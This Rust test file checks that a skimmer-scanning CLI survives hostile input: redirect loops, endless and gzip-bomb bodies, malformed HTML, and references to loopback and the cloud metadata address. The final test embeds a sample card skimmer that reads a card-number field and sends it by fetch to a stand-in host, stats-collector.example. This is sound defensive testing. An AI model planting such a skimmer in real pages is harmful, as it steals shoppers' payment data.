//! Hostile and broken input through the whole CLI: redirect loops, bodies that never end,
//! oversized and gzip-bomb bodies, timeouts, malformed HTML, non-UTF-8 text, and the address
//! guard. Each must end with a clear errors[] entry and the right exit code — never a panic, a
//! hang, or a silently clean report.

mod common;
use common::*;
use std::io::Write;
use std::time::{Duration, Instant};

fn messages(report: &serde_json::Value) -> String {
    report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{} {}\n", e["url"], e["message"]))
        .collect()
}

#[test]
fn redirect_loop_is_an_error_not_a_hang() {
    let s = serve(vec![
        ("/a", Route::Redirect("/b".into())),
        ("/b", Route::Redirect("/a".into())),
    ]);
    let (code, report, _) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/a"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    let m = messages(&report);
    assert!(m.contains("redirect"), "{m}");
    assert!(s.hits("/a") <= 11, "bounded number of requests");
}

#[test]
fn endless_body_stops_at_the_size_cap() {
    let s = serve(vec![("/", Route::Endless)]);
    let t = Instant::now();
    let (code, report, _) = scan_json(&[
        "--max-body-size",
        "2KB",
        "--timeout",
        "20",
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert!(messages(&report).contains("limit"), "{}", messages(&report));
    assert!(t.elapsed() < Duration::from_secs(15));
}

#[test]
fn endless_body_times_out() {
    let s = serve(vec![("/", Route::Endless)]);
    let t = Instant::now();
    let (code, report, _) = scan_json(&[
        "--timeout",
        "1",
        "--retries",
        "0",
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert!(
        messages(&report).contains("timed out"),
        "{}",
        messages(&report)
    );
    assert!(t.elapsed() < Duration::from_secs(10), "{:?}", t.elapsed());
}

#[test]
fn slow_script_times_out_and_the_page_is_still_reported() {
    let s = serve(vec![
        (
            "/c",
            html(
                r#"<html><script src="/slow.js"></script><form><input autocomplete="cc-number" name="n"></form></html>"#,
            ),
        ),
        ("/slow.js", Route::Slow(Duration::from_secs(5))),
    ]);
    let (code, report, _) = scan_json(&[
        "--timeout",
        "1",
        "--retries",
        "0",
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/c"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert_eq!(report["pages"][0]["payment_form"], true);
    assert!(
        messages(&report).contains("slow.js"),
        "{}",
        messages(&report)
    );
}

#[test]
fn gzip_bomb_is_cut_at_the_cap() {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..64 {
        enc.write_all(&zeros).unwrap();
    }
    let bomb = enc.finish().unwrap();
    assert!(bomb.len() < 200_000);
    let s = serve(vec![(
        "/",
        Route::Ok {
            status: 200,
            headers: vec![
                ("content-type".into(), "text/html".into()),
                ("content-encoding".into(), "gzip".into()),
            ],
            body: bomb,
        },
    )]);
    let (code, report, _) = scan_json(&[
        "--max-body-size",
        "1MB",
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert!(messages(&report).contains("limit"), "{}", messages(&report));
}

#[test]
fn address_guard_refuses_internal_hosts_named_in_content() {
    let s = serve(vec![
        (
            "/checkout",
            html(&format!(
                r#"<html><head><script src="http://127.0.0.1:{p}/internal.js"></script><script src="http://169.254.169.254/latest/meta-data/"></script><script src="/own.js"></script></head>
                <body><form><input autocomplete="cc-number" name="n"></form></body></html>"#,
                p = 0
            )),
        ),
        ("/own.js", js("var own = 1;")),
        ("/internal.js", js("var internal = 1;")),
    ]);
    // Point the page at this very server's port.
    s.set(
        "/checkout",
        html(&format!(
            r#"<html><head><script src="http://127.0.0.1:{p}/internal.js"></script><script src="http://169.254.169.254/latest/meta-data/"></script><script src="/own.js"></script></head>
            <body><form><input autocomplete="cc-number" name="n"></form></body></html>"#,
            p = s.port()
        )),
    );
    let (code, report, _) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    let m = messages(&report);
    assert!(
        m.contains("169.254.169.254") && m.contains("refused"),
        "{m}"
    );
    assert!(m.contains("internal.js") && m.contains("127.0.0.1"), "{m}");
    assert_eq!(
        s.hits("/internal.js"),
        0,
        "the internal address was never contacted"
    );
    assert_eq!(
        s.hits("/own.js"),
        1,
        "the user's own --resolve host is fine"
    );

    // --allow-private lets the loopback script through. The metadata reference is taken out
    // first: with the guard relaxed the scanner would really try 169.254.169.254, and tests
    // send traffic to loopback only.
    s.set(
        "/checkout",
        html(&format!(
            r#"<html><head><script src="http://127.0.0.1:{p}/internal.js"></script><script src="/own.js"></script></head>
            <body><form><input autocomplete="cc-number" name="n"></form></body></html>"#,
            p = s.port()
        )),
    );
    let (_, report, _) = scan_json(&[
        "--allow-private",
        "--timeout",
        "2",
        "--retries",
        "0",
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout"),
    ]);
    assert_eq!(s.hits("/internal.js"), 1, "{report:#}");
}

#[test]
fn malformed_html_and_non_utf8_text_are_scanned() {
    let mut page = b"<html><head><title>Caf\xe9</title><script>var a = '</scr' + 'ipt>';</script><script src=/x.js></script></head><body><form action=/p><input autocomplete=cc-number name=n><div><span></form></table><p>".to_vec();
    page.extend_from_slice(&[0xff, 0xfe, 0x00, 0x80]);
    let s = serve(vec![
        (
            "/c",
            Route::Ok {
                status: 200,
                headers: vec![("content-type".into(), "text/html".into())],
                body: page,
            },
        ),
        (
            "/x.js",
            Route::Ok {
                status: 200,
                headers: vec![],
                body: b"var s = '\xff\xfe broken bytes'; function f( {".to_vec(),
            },
        ),
    ]);
    let (code, report, stderr) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/c"),
    ]);
    // Exactly 0: broken bytes and a broken script are scanned (the script through the parse
    // fallback), so the scan is complete, and nothing in it is a skimmer.
    assert_eq!(code, 0, "{stderr}\n{report:#}");
    assert_eq!(report["complete"], true, "{report:#}");
    assert!(
        rules_of(&report).contains(&"csp-missing".to_string()),
        "{report:#}"
    );
    assert_eq!(report["pages"][0]["payment_form"], true, "{report:#}");
    assert!(
        report["scripts"].as_array().unwrap().len() >= 2,
        "{report:#}"
    );
}

#[test]
fn huge_local_file_is_refused_at_the_cap() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("big.js");
    std::fs::write(&p, vec![b'a'; 3_000_000]).unwrap();
    let (code, report, _) = scan_json(&["--max-body-size", "1MB", p.to_str().unwrap()]);
    assert_eq!(code, 3, "{report:#}");
    assert!(messages(&report).contains("limit"));
}

#[test]
fn pathologically_deep_html_hits_the_parse_budget_instead_of_stalling() {
    // html5ever is quadratic on unclosed nesting; 100,000 levels would take minutes.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("deep.html");
    std::fs::write(&p, "<div>".repeat(100_000)).unwrap();
    let t = Instant::now();
    let (code, report, _) = scan_json(&[p.to_str().unwrap()]);
    assert_eq!(code, 3, "{report:#}");
    assert!(
        messages(&report).contains("could not be parsed"),
        "{}",
        messages(&report)
    );
    assert!(t.elapsed() < Duration::from_secs(60), "{:?}", t.elapsed());
}

#[test]
fn database_escaped_markup_is_unescaped_and_analysed() {
    // Skimmers stored in a CMS field arrive with escaped quotes; the shop unescapes them when
    // it renders the page, so they run and must be analysed.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("footer.html");
    std::fs::write(
        &p,
        r#"<html><body><form><input name="cc_number" autocomplete="cc-number"></form>
<script type=\"text/javascript\">document.addEventListener(\'submit\',function(){var v=document.getElementById(\'cc_number\').value;fetch(\'https://stats-collector.example/c?d=\'+btoa(v));});</script></body></html>"#,
    )
    .unwrap();
    let (code, report, _) = scan_json(&[p.to_str().unwrap()]);
    assert_eq!(code, 1, "{report:#}");
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "payment-data-exfiltration")
        .unwrap_or_else(|| panic!("{report:#}"));
    assert_eq!(f["hosts"][0], "stats-collector.example");
}
